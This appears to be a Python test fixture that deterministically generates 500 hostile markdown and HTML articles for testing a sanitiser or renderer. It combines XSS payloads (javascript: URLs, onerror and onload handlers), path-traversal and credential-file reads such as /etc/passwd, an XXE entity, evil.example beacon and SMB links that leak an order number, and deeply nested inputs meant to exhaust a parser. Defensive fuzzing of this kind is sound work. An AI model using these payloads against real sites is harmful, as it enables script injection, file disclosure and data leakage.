"""Five hundred articles that somebody wrote to do harm: built from parts, the same at each run."""

from __future__ import annotations

import random
from collections.abc import Iterator

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert(1)",
    "javascript\u200b:alert(1)",
    "\u202ejavascript:alert(1)",
    "ｊavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "FILE:///C:/Windows/win.ini",
    "file://host/share/x.png",
    "\\\\host\\share\\x.png",
    "//evil.example/x.png",
    "/etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2fetc/passwd",
    "C:\\Windows\\win.ini",
    "http://evil.example/x.png?id={order_no}",
    "https://evil.example/@good.example",
    "ftp://evil.example/x",
    "qrc:/x.png",
    "attachment:../secret.png",
    "attachment:%2e%2e%2fsecret.png",
    'attachment:photo.png#"onerror=alert(1)',
    "attachment://evil.example/photo.png",
    "smb://evil.example/x",
    'x" onerror="alert(1)',
    "x' onload='alert(1)",
    "<x>",
    "x) ![y](http://evil.example/z.png",
)
SHAPES = (
    "![a]({0})",
    "![a](<{0}>)",
    '![a]({0} "t")',
    "[a]({0})",
    "[![a]({0})]({0})",
    "<{0}>",
    "![a][r]\n\n[r]: {0}",
    "[r]\n\n[r]: <{0}> 'onclick=alert(1)'",
    '<img src="{0}">',
    "<img src={0} onerror=alert(1)>",
    "<img\tsrc='{0}'\n/onload=alert(1)//",
    "<IMG SRC={0}",
    '<a href="{0}">x</a>',
    "<a href='{0}' onmouseover=alert(1)>x",
    "<iframe src='{0}'></iframe>",
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<link rel=stylesheet href="{0}">',
    '<base href="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">',
    "<style>@import '{0}'; body{{background:url({0})}}</style>",
    "<p style=\"background:url('{0}')\">x</p>",
    "<table background=\"{0}\"><tr><td background='{0}'>x",
    '<body background="{0}" bgcolor=red>',
    "<svg><image href=\"{0}\" xlink:href='{0}'/></svg>",
    "<svg/onload=alert(1)><script href={0} /></svg>",
    "<math><maction actiontype=statusline xlink:href={0}>x",
    "<video poster={0}><source src={0}></video>",
    "<audio src={0} autoplay>",
    "<input type=image src={0}>",
    "<form action={0}><button formaction={0}>x",
    "<script src={0}></script>",
    "<scr<script>ipt src={0}></scr</script>ipt>",
    "<!--><img src={0}>-->",
    "<![CDATA[<img src={0}>]]>",
    '<?xml-stylesheet href="{0}"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{0}">]>&e;',
    '<noscript><p title="</noscript><img src={0}>">',
    "<template><img src={0}></template>",
    "`<img src={0}>`",
    "```html\n<img src={0}>\n```",
    "    <img src={0}>",
    "| a | b |\n|---|---|\n| ![x]({0}) | <img src={0}> |",
    "> - ![a]({0})\n>   1. <img src={0}>",
    "# ![a]({0}) <img src={0}>",
    "![<img src={0}>](photo.png)",
    '![a" onerror="alert(1)](photo.png)',
    "<br/onclick=alert(1)><br src={0}>",
    "&lt;img src={0}&gt; &#60;img src={0}&#62;",
    "\\![a]({0}) \\<img src={0}>",
)


def articles(count: int = 500) -> Iterator[str]:
    """Yield the bodies: each shape with each kind of address, then mixtures, nested and broken."""
    chance = random.Random(4)
    pairs = [shape.format(address) for shape in SHAPES for address in ADDRESSES]
    chance.shuffle(pairs)
    deep = (
        *("> " * 3_000 + pairs[0], "- " * 3_000 + pairs[1], "[" * 3_000 + pairs[2], "*" * 9_000 + pairs[3]),
        *("<div>" * 3_000 + pairs[4], "![" * 3_000 + pairs[5] + "](x)" * 3_000, "`" * 5_001 + pairs[6]),
        *("|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + pairs[7], "\x00" * 50 + pairs[8], "\ud800" + pairs[9]),
        *("\ufeff\u2028\u2029\x85" + pairs[10], "\r\r\n" + pairs[11], "&" * 5_000 + pairs[12]),
    )
    yield from deep
    size = len(pairs) // (count - len(deep)) + 1
    for number in range(count - len(deep)):
        parts = pairs[number * size : (number + 1) * size] or chance.sample(pairs, size)
        text = chance.choice(("\n\n", "\n", " ", "")).join(parts)
        if chance.random() < 0.3:  # cut somewhere, with a sign in the middle that does not belong there
            place = chance.randrange(len(text))
            text = (
                text[:place]
                + chance.choice(("\x00", "<", "\u202e", '"', "`", "&#0;", "]]>", "\\"))
                + text[place + 1 :]
            )
        yield text
